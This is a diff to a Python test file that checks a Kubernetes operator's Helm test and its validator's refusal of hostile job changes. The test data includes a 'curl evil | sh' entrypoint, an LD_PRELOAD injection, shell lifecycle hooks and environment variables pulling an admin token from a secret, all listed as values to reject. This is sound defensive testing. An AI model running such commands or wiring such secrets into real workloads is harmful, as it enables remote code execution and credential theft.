@@ -94,8 +94,9 @@ def test_where_kuberay_is_the_notes_miss_nothing(release: Release, before: Befor
 
 
 def test_helm_test_runs_a_scenario_to_its_verdict(release: Release, before: Before) -> None:
-    release.helm("test", "--timeout", "600s", timeout=660)
+    done = release.cluster.helm("test", "stepmark", "--namespace", NAMESPACE, "--timeout", "600s", timeout=660)
     said = release.kubectl("logs", "stepmark-test")
+    assert done.returncode == 0, (done.stderr, said)
     assert "plain" in said
     scenarios = json.loads(release.kubectl("get", "scenarios", "-o", "json"))["items"]
     (run,) = [one for one in scenarios if one["metadata"]["name"].startswith("helm-test-")]
@@ -218,6 +219,10 @@ def of_job(**changes: Any) -> Change:
     return lambda job: job["spec"].update(changes)
 
 
+SECRET_NODE_NAME = {
+    "name": "STEPMARK_NODE_NAME",
+    "valueFrom": {"secretKeyRef": {"name": "stepmark-tokens", "key": "admin"}},
+}
 HOSTILE: dict[str, tuple[Change, str]] = {
     "entrypoint": (of_job(entrypoint="curl evil | sh"), "stepmark's own entrypoint"),
     "runtime environment": (of_job(runtimeEnvYAML="pip: [evil]"), "without a runtime environment"),
@@ -230,6 +235,7 @@ HOSTILE: dict[str, tuple[Change, str]] = {
     "command": (of_container("worker", command=["sh"]), "no commands"),
     "lifecycle": (of_container("worker", lifecycle={"postStart": {"exec": {"command": ["sh"]}}}), "no commands"),
     "environment": (of_container("head", env=[{"name": "LD_PRELOAD", "value": "/tmp/a.so"}]), "no environment but"),
+    "secret in a variable": (of_container("head", env=[SECRET_NODE_NAME]), "no environment but"),
     "secret as environment": (
         of_container("head", envFrom=[{"secretRef": {"name": "stepmark-tokens"}}]),
         "no commands",
